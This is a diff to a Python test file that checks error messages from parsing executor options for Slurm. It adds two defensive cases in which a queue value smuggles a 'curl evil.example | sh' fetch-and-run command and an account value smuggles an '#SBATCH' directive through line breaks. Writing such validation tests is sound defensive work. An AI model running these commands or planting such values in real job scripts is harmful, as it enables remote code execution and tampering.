@@ -118,6 +118,8 @@ def test_a_limit_is_shared_by_the_jobs(source: SampleSet, tmp_path: Path) -> Non
         ("slurm,jobs=0", "jobs is 0: give 1 or more"),
         (SlurmConfig(time=0), "time is 0: give 1 or more"),
         ("slurm,cluster=here", "the option cluster of --executor slurm: invalid enum value 'here'"),
+        ("slurm,queue=gpu\ncurl evil.example | sh #", "queue and account of Slurm hold a line break: give names"),
+        (SlurmConfig(account="a\n#SBATCH --export=ALL"), "queue and account of Slurm hold a line break"),
         ("slum,jobs=2", r"there is no executor 'slum,jobs=2' \(did you mean 'slurm'\?\): local, ray, slurm are"),
         ("local,jobs=2", "there is no executor 'local,jobs=2'"),
     ],
